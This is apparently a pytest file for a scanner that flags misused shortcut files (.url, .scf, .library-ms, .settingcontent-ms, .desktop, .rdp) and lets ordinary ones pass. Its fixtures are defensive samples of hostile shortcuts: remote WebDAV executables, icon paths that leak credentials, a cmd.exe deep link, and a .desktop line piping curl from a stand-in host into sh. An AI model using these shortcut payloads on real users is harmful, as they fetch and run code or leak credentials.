"""Shortcuts that are texts: the ways they are misused, and the wanted ones."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from fyke.files.base import Content
from fyke.files.identify import identify
from fyke.files.programs.url import _BY_NAME, TextShortcuts
from fyke.model import Finding, Lead

LIBRARY = "<?xml version='1.0'?><libraryDescription><url>\\\\example.test@80\\dav</url></libraryDescription>"
SETTING = "<?xml version='1.0'?><PCSettings><DeepLink>%windir%\\cmd.exe /c a</DeepLink></PCSettings>"


def _found(text, name):
    data = text.encode()
    said = list(TextShortcuts().look(Content(data, name, identify(data, name))))
    return {one.symbol.name for one in said if isinstance(one, Finding)}, [
        one.url for one in said if isinstance(one, Lead)
    ]


@pytest.mark.parametrize(
    ("text", "name", "symbol"),
    [
        ("[InternetShortcut]\nURL=file://203.0.113.9@80/dav/a.js\n", "a.url", "URL_REMOTE_PROGRAM"),
        ("[InternetShortcut]\r\nURL=file:\\\\example.test@SSL\\DavWWWRoot\\a.exe\r\n", "a.url", "URL_REMOTE_PROGRAM"),
        ("[InternetShortcut]\nURL=file://example.test/share/\n", "a.url", "URL_SHARE"),
        ("[InternetShortcut]\nURL=file:///C:/Windows/System32/calc.exe\n", "a.url", "URL_LOCAL"),
        ("[InternetShortcut]\nURL=https://example.org\nIconFile=\\\\example.test\\x\\a\n", "a.url", "URL_ICON_LEAK"),
        ("[InternetShortcut]\nURL=search-ms:query=x&crumb=location:%5C%5Cexample.test\n", "a.url", "LIBRARY_REMOTE"),
        ("[Shell]\nCommand=2\nIconFile=\\\\example.test\\share\\a.ico\n", "a.scf", "URL_ICON_LEAK"),
        (LIBRARY, "a.library-ms", "LIBRARY_REMOTE"),
        (SETTING, "a.settingcontent-ms", "SETTING_COMMAND"),
        ("[Desktop Entry]\nExec=sh -c 'curl http://example.test/a | sh'\n", "a.desktop", "DESKTOP_FETCH_RUN"),
        ("https://example.test/a.application#a, Culture=neutral", "a.appref-ms", "APPREF_REMOTE"),
        ("full address:s:example.test\ndrivestoredirect:s:*\n", "a.rdp", "RDP_DRIVES"),
        ("full address:s:desk.example.org\nscreen mode id:i:2\n", "a.rdp", "RDP_FILE"),
    ],
)  # fmt: skip
def test_misused(text, name, symbol):
    """Each misuse is found."""
    assert symbol in _found(text, name)[0]


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("[InternetShortcut]\nURL=https://example.org/\nIconIndex=0\nIconFile=C:\\Windows\\a.ico\n", "a.url"),
        ("[InternetShortcut]\nURL=file:///C:/Users/me/notes.txt\n", "a.url"),
        ("[Desktop Entry]\nExec=/usr/bin/evince %U\nIcon=evince\n", "evince.desktop"),
        ("[Shell]\nCommand=2\nIconFile=explorer.exe,3\n[Taskbar]\nCommand=ToggleDesktop", "desktop.scf"),
        ("URL=file://203.0.113.9/a.exe", "notes.txt"),
    ],
)
def test_wanted(text, name):
    """Shortcuts to pages and documents, launchers and notes give nothing."""
    assert _found(text, name)[0] == set()


def test_address_is_a_lead():
    """The address of a shortcut is given on, wherever it leads."""
    assert _found("[InternetShortcut]\nURL=https://example.test/a\n", "a.url")[1] == ["https://example.test/a"]


@given(st.binary(max_size=300), st.sampled_from(sorted(_BY_NAME)))
@settings(max_examples=60, deadline=None)
def test_any_bytes(data, last):
    """No bytes raise."""
    list(TextShortcuts().look(Content(b"[InternetShortcut]\nURL=" + data, f"a.{last}", "text")))
